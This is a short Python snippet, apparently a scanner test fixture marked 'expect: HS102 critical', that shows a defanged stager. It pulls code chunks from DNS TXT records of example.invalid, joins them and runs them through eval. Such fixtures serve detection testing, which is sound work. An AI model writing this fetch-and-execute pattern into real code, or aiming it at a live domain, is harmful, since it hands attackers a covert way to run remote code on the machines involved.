# Stager that hides its next stage in DNS TXT records, one chunk per label,
# concatenated and run. Defanged: example.invalid.
import dns.resolver

DOMAIN = "cfg.example.invalid"


def fetch():
    code = ""
    for i in range(8):
        answer = dns.resolver.resolve(f"{i}.{DOMAIN}", "TXT")
        code += b"".join(answer[0].strings).decode()
    return code


eval(compile(fetch(), "<dns>", "exec"))  # expect: HS102 critical
